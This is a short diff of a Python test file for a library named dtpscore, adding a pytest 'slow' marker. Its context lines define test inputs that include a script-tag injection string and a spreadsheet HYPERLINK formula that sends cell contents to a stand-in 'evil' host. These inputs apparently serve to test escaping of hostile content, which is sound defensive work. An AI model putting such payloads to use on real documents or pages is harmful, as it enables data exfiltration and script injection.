@@ -17,6 +17,8 @@ import dtpscore as dtp
 from dtpscore import pl
 from dtpscore._text import short, visible
 
+pytestmark = pytest.mark.slow
+
 MATH, SCRIPT = r"$\dose{5}$", "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'
 
